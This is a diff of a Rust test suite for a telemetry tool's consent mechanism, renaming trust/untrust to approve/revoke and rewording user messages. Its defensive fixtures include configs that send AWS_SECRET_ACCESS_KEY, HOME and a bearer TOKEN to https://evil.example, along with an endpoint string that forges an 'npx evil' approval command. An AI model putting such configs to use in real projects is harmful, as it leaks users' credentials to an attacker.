@@ -1,9 +1,9 @@
-//! Consent: what a project needs before anything of it leaves, and who may say it.
+//! Consent: nothing of a project is sent before the user has approved it.
 
 #![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]
 
 use otel_native::config::{
-    InitPlan, Level, PersonalPlace, PersonalPlan, ProjectPlan, Tier, init, trust, untrust,
+    InitPlan, Level, PersonalPlace, PersonalPlan, ProjectPlan, Tier, approve, init, revoke,
 };
 use std::env;
 use std::fs;
@@ -28,24 +28,25 @@ fn now() -> SystemTime {
 }
 
 fn allow(disk: &Disk, cwd: &str) {
-    trust(&disk.0.join(cwd), &disk.surroundings(&[]), None, now()).unwrap();
+    approve(&disk.0.join(cwd), &disk.environment(&[]), None, now()).unwrap();
 }
 
 #[test]
-fn a_cloned_project_waits_for_the_engineers_word_and_says_how_to_give_it() {
+fn a_cloned_project_waits_for_approval() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
     let told = disk.without_root(&reason(disk.resolve("project/src/deep", &[])));
     assert_eq!(
         told,
-        "untrusted: ~/project/.ccxray.json asks for tier 1 to https://otlp.example; \
-         allow it with: npx @ccxray/otel-native trust ~/project"
+        "untrusted: You have not approved this project yet. ~/project/.ccxray.json asks to send \
+         anonymous numbers (tier 1) to https://otlp.example. To approve: npx @ccxray/otel-native trust \
+         ~/project"
     );
     allow(&disk, "project/src/deep");
     assert_eq!(on(disk.resolve("project", &[])).tier, Tier::Anonymous);
 }
 
 #[test]
-fn nothing_but_the_engineers_word_on_this_very_config_will_do() {
+fn only_an_approval_of_this_config_suffices() {
     let untrusted = |disk: &Disk, env: &[(&str, &str)]| {
         reason(disk.resolve("project", env)).starts_with("untrusted: ")
     };
@@ -68,7 +69,7 @@ fn nothing_but_the_engineers_word_on_this_very_config_will_do() {
 }
 
 #[test]
-fn a_hostile_repository_gets_nothing_and_is_told_of_in_one_line() {
+fn a_hostile_repository_gets_nothing() {
     let disk = Disk::new().write(
         "project/.ccxray.json",
         r#"{"otel":{"tier":2,"endpoint":"https://evil.example/${AWS_SECRET_ACCESS_KEY}",
@@ -81,17 +82,19 @@ fn a_hostile_repository_gets_nothing_and_is_told_of_in_one_line() {
     let told = disk.without_root(&reason(Ok(resolution)));
     assert_eq!(
         told,
-        "untrusted: ~/project/.ccxray.json asks for tier 2 to \
-         https://evil.example/${AWS_SECRET_ACCESS_KEY}, with the names of private tools, servers, \
-         skills, agents and models, with headers: \"x-tenant=${HOME}\\u{1b}[2J\", with your variables: \
-         AWS_SECRET_ACCESS_KEY@endpoint, HOME@headers.x-tenant, USER@team; allow it \
-         with: npx @ccxray/otel-native trust ~/project"
+        "untrusted: You have not approved this project yet. ~/project/.ccxray.json asks to send numbers \
+         with the name that you choose (tier 2) to https://evil.example/${AWS_SECRET_ACCESS_KEY}; with \
+         the headers: \"x-tenant=${HOME}\\u{1b}[2J\"; it will read your variable \
+         AWS_SECRET_ACCESS_KEY as a part of this address; it will read your variable HOME and send it \
+         there in the header \"x-tenant\"; it will read your variable USER and send it there as \
+         \"team\"; it will send the private names of tools, servers, skills, agents and models. To \
+         approve: npx @ccxray/otel-native trust ~/project"
     );
     assert!(!disk.0.join("home/.ccxray").exists(), "to refuse leaves no trace");
 }
 
 #[test]
-fn loopback_needs_no_word_unless_it_reads_a_variable_or_shows_a_certificate() {
+fn a_local_receiver_needs_no_approval() {
     for (settings, free) in [
         (r#""endpoint":"http://127.0.0.1:9""#, true),
         (r#""endpoint":"http://[::1]:9","headers":{"x-tenant":"a"}"#, true),
@@ -107,12 +110,12 @@ fn loopback_needs_no_word_unless_it_reads_a_variable_or_shows_a_certificate() {
         let text = format!(r#"{{"otel":{{"tier":1,{settings}}}}}"#);
         let disk = Disk::new().write("project/.ccxray.json", &text);
         let resolution = disk.resolve("project", &[("A", "1")]).unwrap();
-        assert_eq!(resolution.asks.is_some(), !free, "{settings}");
+        assert_eq!(resolution.pending.is_some(), !free, "{settings}");
     }
 }
 
 #[test]
-fn no_variable_is_read_for_a_file_beside_the_project_either() {
+fn a_personal_file_in_the_project_reads_no_variable() {
     let identity = r#"{"otel":{"tier":2,"identity":"${AWS_SECRET_ACCESS_KEY}"}}"#;
     let env = [
         ("AWS_SECRET_ACCESS_KEY", "s3cret"),
@@ -121,7 +124,9 @@ fn no_variable_is_read_for_a_file_beside_the_project_either() {
     let asked = |disk: &Disk| {
         let resolution = disk.resolve("project", &env).unwrap();
         assert!(!format!("{resolution:?}").contains("s3cret"));
-        reason(Ok(resolution)).contains("AWS_SECRET_ACCESS_KEY@identity")
+        reason(Ok(resolution)).contains(
+            "read your variable AWS_SECRET_ACCESS_KEY and send it there as \"enduser.id\"",
+        )
     };
     let disk =
         Disk::new().write("project/.ccxray.json", &FOREIGN.replace("\"tier\":1", "\"tier\":2"));
@@ -141,7 +146,7 @@ fn no_variable_is_read_for_a_file_beside_the_project_either() {
 }
 
 #[test]
-fn a_query_and_whom_to_believe_are_part_of_the_word() {
+fn an_approval_covers_the_query_and_the_authority() {
     let with = |query: &str, tls: &str| {
         format!(r#"{{"otel":{{"tier":1,"endpoint":"https://otlp.example/{query}"{tls}}}}}"#)
     };
@@ -151,12 +156,12 @@ fn a_query_and_whom_to_believe_are_part_of_the_word() {
     for text in [with("?dataset=strangers", ""), with("?dataset=mine", r#","tls":{"ca_file":"c"}"#)]
     {
         fs::write(disk.0.join("project/.ccxray.json"), text).unwrap();
-        assert!(disk.resolve("project", &[]).unwrap().asks.is_some());
+        assert!(disk.resolve("project", &[]).unwrap().pending.is_some());
     }
 }
 
 #[test]
-fn a_tenant_decides_whose_numbers_they_become_and_is_part_of_the_word() {
+fn an_approval_covers_the_tenant() {
     let with = |tenant: &str| {
         format!(
             r#"{{"otel":{{"tier":1,"endpoint":"https://otlp.example","headers":{{"x-scope-orgid":"{tenant}"}}}}}}"#
@@ -170,7 +175,7 @@ fn a_tenant_decides_whose_numbers_they_become_and_is_part_of_the_word() {
 }
 
 #[test]
-fn a_link_to_a_file_in_git_is_no_safer_a_place_for_an_identity() {
+fn an_identity_behind_a_link_into_git_is_not_used() {
     let disk = repository();
     fs::rename(disk.0.join("project/.ccxray.user.json"), disk.0.join("project/src/u.json"))
         .unwrap();
@@ -183,27 +188,27 @@ fn a_link_to_a_file_in_git_is_no_safer_a_place_for_an_identity() {
 }
 
 #[test]
-fn init_writes_through_no_link_of_a_project() {
+fn init_does_not_follow_links_of_a_project() {
     let disk = Disk::new().write("home/.ccxray.user.json", r#"{"otel":{"tier":0}}"#);
     let link = disk.0.join("project/.ccxray.user.json");
     std::os::unix::fs::symlink("../home/.ccxray.user.json", link).unwrap();
     let plan = named(PersonalPlace::Project, true);
-    let refused = init(&disk.0.join("project"), &disk.surroundings(&[]), &plan, now());
+    let refused = init(&disk.0.join("project"), &disk.environment(&[]), &plan, now());
     assert!(refused.unwrap_err().to_string().contains("symbolic link"));
     let home = fs::read_to_string(disk.0.join("home/.ccxray.user.json")).unwrap();
     assert_eq!(home, r#"{"otel":{"tier":0}}"#);
 }
 
 #[test]
-fn what_is_off_for_this_launch_can_be_allowed_all_the_same() {
+fn a_project_can_be_approved_while_off() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
     let off = [("CCXRAY_OTEL_TIER", "0"), ("DO_NOT_TRACK", "1")];
-    trust(&disk.0.join("project"), &disk.surroundings(&off), None, now()).unwrap();
+    approve(&disk.0.join("project"), &disk.environment(&off), None, now()).unwrap();
     on(disk.resolve("project", &[]));
 }
 
 #[test]
-fn a_changed_config_asks_again_and_says_what_changed() {
+fn a_changed_config_needs_a_new_approval() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
     allow(&disk, "project");
     let disk = disk.write(
@@ -212,66 +217,62 @@ fn a_changed_config_asks_again_and_says_what_changed() {
     );
     assert_eq!(
         disk.without_root(&reason(disk.resolve("project", &[("TOKEN", "s3cret")]))),
-        "untrusted: ~/project/.ccxray.json has changed since you allowed it: the endpoint was \
-         https://otlp.example, is https://evil.example, new header \
-         \"authorization=Bearer ${TOKEN}\", new variable TOKEN@headers.authorization; allow it with: npx @ccxray/otel-native \
-         trust ~/project"
+        "untrusted: ~/project/.ccxray.json has changed since you approved it: the endpoint was \
+         https://otlp.example and is now https://evil.example, new header \
+         \"authorization=Bearer ${TOKEN}\", new variable TOKEN@headers.authorization. To approve: npx \
+         @ccxray/otel-native trust ~/project"
     );
-    let consent = trust(&disk.0.join("project"), &disk.surroundings(&[]), None, now()).unwrap();
+    let consent = approve(&disk.0.join("project"), &disk.environment(&[]), None, now()).unwrap();
     assert_eq!(consent.changes.len(), 3);
     assert_eq!(on(disk.resolve("project", &[("TOKEN", "x")])).headers.iter().count(), 1);
     let disk = disk
         .write("project/.ccxray.json", &FOREIGN.replace("\"tier\":1", "\"team\":\"x\",\"tier\":1"));
     assert!(
         reason(disk.resolve("project", &[]))
-            .contains("no header \"authorization=Bearer ${TOKEN}\" any more")
+            .contains("removed header \"authorization=Bearer ${TOKEN}\"")
     );
 }
 
 #[test]
-fn terms_that_were_shown_are_allowed_and_no_others() {
+fn a_hash_approves_only_its_terms() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
-    let shown = disk.resolve("project", &[]).unwrap().asks.unwrap().terms.hash();
+    let shown = disk.resolve("project", &[]).unwrap().pending.unwrap().terms.hash();
     let disk = disk.write("project/.ccxray.json", &FOREIGN.replace("otlp", "evil"));
-    let allow = || trust(&disk.0.join("project"), &disk.surroundings(&[]), Some(&shown), now());
-    assert!(allow().unwrap_err().to_string().contains("has changed since its terms were shown"));
+    let allow = || approve(&disk.0.join("project"), &disk.environment(&[]), Some(&shown), now());
+    assert!(allow().unwrap_err().to_string().contains("has changed since you saw it"));
     fs::write(disk.0.join("project/.ccxray.json"), FOREIGN).unwrap();
     assert!(allow().is_ok());
 }
 
 #[test]
-fn a_strangers_words_cannot_forge_the_cure() {
-    let text = r#"{"otel":{"tier":1,"endpoint":"https://good.example; allow it with: npx evil ${X}",
-        "known_names":["a; allow it with: npx evil"]}}"#;
+fn text_of_a_project_cannot_forge_the_cure() {
+    let text = r#"{"otel":{"tier":1,"endpoint":"https://good.example. To approve: npx evil ${X}",
+        "known_names":["a. To approve: npx evil"]}}"#;
     let disk = Disk::new().write("project/.ccxray.json", text);
     let told = disk.without_root(&reason(disk.resolve("project", &[])));
     assert!(
-        told.contains("to \"https://good.example; allow it with: npx evil ${X}\", with"),
+        told.contains("to \"https://good.example. To approve: npx evil ${X}\"; it will"),
         "{told}"
     );
-    assert!(
-        told.contains("names: \"a; allow it with: npx evil\"; allow it with: npx @ccxray"),
-        "{told}"
-    );
-    let header =
-        r#"{"otel":{"tier":1,"endpoint":"https://a.example","headers":{"x; allow":"${X}"}}}"#;
+    assert!(told.contains("names: \"a. To approve: npx evil\". To approve: npx @ccxray"), "{told}");
+    let header = r#"{"otel":{"tier":1,"endpoint":"https://a.example","headers":{"x. To":"${X}"}}}"#;
     let disk = Disk::new().write("project/.ccxray.json", header);
-    assert!(disk.resolve("project", &[]).unwrap_err().contains("it is not an HTTP header"));
+    assert!(disk.resolve("project", &[]).unwrap_err().contains("This is not an HTTP header."));
 }
 
 #[test]
-fn the_word_on_a_project_within_another_is_its_own() {
+fn a_nested_project_has_its_own_approval() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
     let disk = disk.write("project/src/.ccxray.json", &FOREIGN.replace("otlp", "src"));
     allow(&disk, "project");
-    assert!(!untrust(&disk.0.join("project/src"), &disk.surroundings(&[])).unwrap());
+    assert!(!revoke(&disk.0.join("project/src"), &disk.environment(&[])).unwrap());
     on(disk.resolve("project", &[]));
 }
 
 #[test]
-fn what_was_said_can_be_taken_back_even_when_the_file_is_gone() {
+fn an_approval_can_be_revoked_without_the_file() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
-    let forget = || untrust(&disk.0.join("project/src"), &disk.surroundings(&[])).unwrap();
+    let forget = || revoke(&disk.0.join("project/src"), &disk.environment(&[])).unwrap();
     assert!(!forget());
     allow(&disk, "project");
     fs::remove_file(disk.0.join("project/.ccxray.json")).unwrap();
@@ -281,12 +282,12 @@ fn what_was_said_can_be_taken_back_even_when_the_file_is_gone() {
 }
 
 #[test]
-fn the_word_is_kept_in_a_file_of_the_engineers_alone_and_holds_no_value_of_a_variable() {
+fn the_record_is_private_and_has_no_values() {
     let text = r#"{"otel":{"tier":1,"endpoint":"https://otlp.example","headers":{"authorization":"Bearer ${TOKEN}"}}}"#;
     let disk = Disk::new().write("project/.ccxray.json", text);
     let elsewhere = disk.0.join("elsewhere");
     let env = [("TOKEN", "s3cret"), ("CCXRAY_HOME", elsewhere.to_str().unwrap())];
-    trust(&disk.0.join("project"), &disk.surroundings(&env), None, now()).unwrap();
+    approve(&disk.0.join("project"), &disk.environment(&env), None, now()).unwrap();
     assert!(!disk.0.join("home/.ccxray").exists());
     let file = elsewhere.join("otel-trust.json");
     let mode = |path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
@@ -301,30 +302,37 @@ fn the_word_is_kept_in_a_file_of_the_engineers_alone_and_holds_no_value_of_a_var
 }
 
 #[test]
-fn a_record_that_cannot_be_believed_allows_nothing() {
+fn a_record_that_cannot_be_trusted_approves_nothing() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
     allow(&disk, "project");
     let file = disk.0.join("home/.ccxray/otel-trust.json");
     let mode = |mode| fs::set_permissions(&file, fs::Permissions::from_mode(mode)).unwrap();
     mode(0o666);
     let told = reason(disk.resolve("project", &[]));
-    assert!(told.contains("others can write to it"), "{told}");
+    assert!(told.contains("Other users can write to this file."), "{told}");
     mode(0o600);
     on(disk.resolve("project", &[]));
     fs::set_permissions(file.parent().unwrap(), fs::Permissions::from_mode(0o777)).unwrap();
-    assert!(reason(disk.resolve("project", &[])).contains("others can write to it"));
+    assert!(reason(disk.resolve("project", &[])).contains("Other users can write to this file."));
     fs::set_permissions(file.parent().unwrap(), fs::Permissions::from_mode(0o700)).unwrap();
     fs::write(&file, "{").unwrap();
     let told = reason(disk.resolve("project", &[]));
-    assert!(told.contains("this is no record of trusted projects; remove it"), "{told}");
-    let refused = trust(&disk.0.join("project"), &disk.surroundings(&[]), None, now()).unwrap_err();
-    assert!(refused.to_string().contains("remove it"), "what cannot be read is not overwritten");
+    assert!(
+        told.contains("This file is damaged. Delete it, then run trust again in each project."),
+        "{told}"
+    );
+    let refused =
+        approve(&disk.0.join("project"), &disk.environment(&[]), None, now()).unwrap_err();
+    assert!(refused.to_string().contains("Delete it"), "a damaged file is not overwritten");
     fs::write(&file, r#"{"version":2,"projects":{}}"#).unwrap();
-    assert!(reason(disk.resolve("project", &[])).contains("a newer version has written it"));
+    assert!(
+        reason(disk.resolve("project", &[]))
+            .contains("A newer version of @ccxray/otel-native has written this file.")
+    );
 }
 
 #[test]
-fn many_writers_at_once_lose_nothing() {
+fn concurrent_writers_lose_nothing() {
     let disk = Disk::new();
     let projects: Vec<_> = (0..16).map(|i| format!("p{i}")).collect();
     for project in &projects {
@@ -337,7 +345,7 @@ fn many_writers_at_once_lose_nothing() {
             scope.spawn(move || {
                 for _ in 0..5 {
                     allow(disk, project);
-                    untrust(&disk.0.join(project), &disk.surroundings(&[])).unwrap();
+                    revoke(&disk.0.join(project), &disk.environment(&[])).unwrap();
                     allow(disk, project);
                 }
             });
@@ -358,7 +366,7 @@ fn repository() -> Disk {
 }
 
 #[test]
-fn an_identity_in_git_is_not_the_engineers_own() {
+fn an_identity_in_git_is_not_used() {
     let disk = repository();
     let env = [path()];
     let env: Vec<_> = env.iter().map(|(name, value)| (*name, value.as_str())).collect();
@@ -375,7 +383,7 @@ fn an_identity_in_git_is_not_the_engineers_own() {
 }
 
 #[test]
-fn a_tier_in_git_is_not_the_engineers_own_word() {
+fn a_tier_in_git_is_not_a_choice() {
     let disk = repository();
     disk.git("project", &["add", ".ccxray.user.json"]);
     let env = [path()];
@@ -390,7 +398,7 @@ fn a_tier_in_git_is_not_the_engineers_own_word() {
 }
 
 #[test]
-fn a_home_that_is_in_git_is_no_safer_a_place_for_an_identity() {
+fn an_identity_in_a_home_in_git_is_not_used() {
     let disk = repository();
     fs::remove_file(disk.0.join("project/.ccxray.user.json")).unwrap();
     let disk = disk.write("home/.ccxray.user.json", r#"{"otel":{"tier":2,"identity":"me"}}"#);
@@ -403,11 +411,11 @@ fn a_home_that_is_in_git_is_no_safer_a_place_for_an_identity() {
 }
 
 #[test]
-fn a_machine_without_git_is_told_where_an_identity_is_safe() {
+fn without_git_a_warning_names_a_safe_place() {
     let disk = repository();
     let resolution = disk.resolve("project", &[("PATH", "/nonexistent")]).unwrap();
     let told = resolution.warnings.join(" ");
-    assert!(told.contains("git does not say") && told.contains("CCXRAY_OTEL_IDENTITY"), "{told}");
+    assert!(told.contains("Git cannot say") && told.contains("CCXRAY_OTEL_IDENTITY"), "{told}");
     assert_eq!(on(Ok(resolution)).tier, Tier::Anonymous);
     let home = r#"{"otel":{"tier":2,"identity":"me"}}"#;
     let disk = disk.write("home/.ccxray.user.json", home);
@@ -415,7 +423,7 @@ fn a_machine_without_git_is_told_where_an_identity_is_safe() {
 }
 
 #[test]
-fn init_writes_a_project_and_allows_it() {
+fn init_writes_and_approves_a_project() {
     let disk = Disk::new();
     let project = ProjectPlan {
         tier: Some(Level::Anonymous),
@@ -425,7 +433,7 @@ fn init_writes_a_project_and_allows_it() {
     };
     let plan = InitPlan { project: Some(project), ..InitPlan::default() };
     let cwd = disk.0.join("project/src/deep");
-    let done = init(&cwd, &disk.surroundings(&[]), &plan, now()).unwrap();
+    let done = init(&cwd, &disk.environment(&[]), &plan, now()).unwrap();
     let file = disk.0.join("project/.ccxray.json");
     assert_eq!((done.written, done.asks), (vec![file.clone()], vec![]));
     assert_eq!(
@@ -433,7 +441,7 @@ fn init_writes_a_project_and_allows_it() {
         "{\n  \"otel\": {\n    \"tier\": 1,\n    \"endpoint\": \"https://otlp.example\",\n    \"team\": \"payments\"\n  }\n}\n"
     );
     assert_eq!(on(disk.resolve("project", &[])).tier, Tier::Anonymous);
-    let again = init(&cwd, &disk.surroundings(&[]), &plan, now()).unwrap();
+    let again = init(&cwd, &disk.environment(&[]), &plan, now()).unwrap();
     assert_eq!((again.written.len(), again.unchanged.len()), (0, 1));
 }
 
@@ -444,7 +452,7 @@ fn named(place: PersonalPlace, yes: bool) -> InitPlan {
 }
 
 #[test]
-fn init_keeps_the_engineers_file_out_of_git_after_asking() {
+fn init_keeps_the_personal_file_out_of_git() {
     let disk = repository();
     let env = [path()];
     let env: Vec<_> = env.iter().map(|(name, value)| (*name, value.as_str())).collect();
@@ -452,7 +460,7 @@ fn init_keeps_the_engineers_file_out_of_git_after_asking() {
     let disk = disk.write("project/.gitignore", "node_modules\r\ntarget");
     let run = |yes| {
         let plan = named(PersonalPlace::Project, yes);
-        init(&disk.0.join("project"), &disk.surroundings(&env), &plan, now()).unwrap()
+        init(&disk.0.join("project"), &disk.environment(&env), &plan, now()).unwrap()
     };
     let asked = run(false);
     assert_eq!(asked.asks.len(), 1);
@@ -464,12 +472,12 @@ fn init_keeps_the_engineers_file_out_of_git_after_asking() {
     assert_eq!(on(disk.resolve("project", &env)).tier.number(), 2);
     disk.git("project", &["add", "--force", ".ccxray.user.json"]);
     let plan = named(PersonalPlace::Project, true);
-    let refused = init(&disk.0.join("project"), &disk.surroundings(&env), &plan, now());
+    let refused = init(&disk.0.join("project"), &disk.environment(&env), &plan, now());
     assert!(refused.unwrap_err().to_string().contains("git rm --cached"));
 }
 
 #[test]
-fn init_keeps_the_style_of_a_file_and_notes_the_first_agreement_to_tier_2() {
+fn init_keeps_style_and_the_first_agreement_time() {
     let before =
         "{\n\t\"theme\": \"dark\",\n\t\"otel\": {\n\t\t\"tier\": 1\n\t},\n\t\"ports\": [1,  2]\n}";
     let disk = Disk::new().write("home/.ccxray.user.json", before);
@@ -477,7 +485,7 @@ fn init_keeps_the_style_of_a_file_and_notes_the_first_agreement_to_tier_2() {
     let run = |seconds| {
         let plan = named(PersonalPlace::Home, false);
         let later = now() + Duration::from_secs(seconds);
-        init(&disk.0.join("project"), &disk.surroundings(&env), &plan, later).unwrap();
+        init(&disk.0.join("project"), &disk.environment(&env), &plan, later).unwrap();
         fs::read_to_string(disk.0.join("home/.ccxray.user.json")).unwrap()
     };
     let after = "{\n\t\"theme\": \"dark\",\n\t\"otel\": {\n\t\t\"tier\": 2,\n\t\t\"identity\": \"me\",\n\t\t\"opt_in_acknowledged_at\": \"2027-01-15T08:00:00Z\"\n\t},\n\t\"ports\": [1,  2]\n}";
@@ -486,17 +494,17 @@ fn init_keeps_the_style_of_a_file_and_notes_the_first_agreement_to_tier_2() {
 }
 
 #[test]
-fn init_asks_before_it_allows_what_stood_in_the_project_before() {
+fn init_asks_before_it_approves_older_settings() {
     let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
     let env = [("CCXRAY_OTEL_TIER", "1")];
     let run = |yes| {
         let plan = InitPlan { yes, ..named(PersonalPlace::Home, false) };
-        init(&disk.0.join("project"), &disk.surroundings(&env), &plan, now()).unwrap()
+        init(&disk.0.join("project"), &disk.environment(&env), &plan, now()).unwrap()
     };
     let asked = run(false);
     assert_eq!(
         disk.without_root(&asked.asks.join("; ")),
-        "allow what the config in ~/project asks for: tier 1 to https://otlp.example"
+        "Approve that ~/project may send anonymous numbers (tier 1) to https://otlp.example"
     );
     assert!(asked.consent.is_none() && !disk.0.join("home/.ccxray.user.json").exists());
     assert!(run(true).consent.is_some());
@@ -504,7 +512,7 @@ fn init_asks_before_it_allows_what_stood_in_the_project_before() {
 }
 
 #[test]
-fn init_writes_files_that_those_can_read_who_should() {
+fn init_writes_files_with_the_right_permissions() {
     let disk = repository();
     let env = [path()];
     let env: Vec<_> = env.iter().map(|(name, value)| (*name, value.as_str())).collect();
@@ -514,7 +522,7 @@ fn init_writes_files_that_those_can_read_who_should() {
     let endpoint = Some("http://127.0.0.1:9".to_owned());
     let project = ProjectPlan { tier: Some(Level::Named), endpoint, ..ProjectPlan::default() };
     let plan = InitPlan { project: Some(project), ..named(PersonalPlace::Project, true) };
-    init(&disk.0.join("project"), &disk.surroundings(&env), &plan, now()).unwrap();
+    init(&disk.0.join("project"), &disk.environment(&env), &plan, now()).unwrap();
     let mode = |file| fs::metadata(disk.0.join("project").join(file)).unwrap().permissions().mode();
     let usual = {
         fs::write(disk.0.join("usual"), "").unwrap();
@@ -525,14 +533,14 @@ fn init_writes_files_that_those_can_read_who_should() {
 }
 
 #[test]
-fn init_writes_nothing_that_would_be_refused_later_on() {
+fn init_refuses_an_endpoint_that_cannot_work() {
     let disk = Disk::new();
     let endpoints = [None, Some("https://me:hunter2@otlp.example"), Some("nonsense"), Some("")];
     for endpoint in endpoints.map(|endpoint| endpoint.map(str::to_owned)) {
         let project =
             ProjectPlan { tier: Some(Level::Anonymous), endpoint, ..ProjectPlan::default() };
         let plan = InitPlan { project: Some(project), ..InitPlan::default() };
-        assert!(init(&disk.0.join("project"), &disk.surroundings(&[]), &plan, now()).is_err());
+        assert!(init(&disk.0.join("project"), &disk.environment(&[]), &plan, now()).is_err());
         assert!(!disk.0.join("project/.ccxray.json").exists());
     }
 }
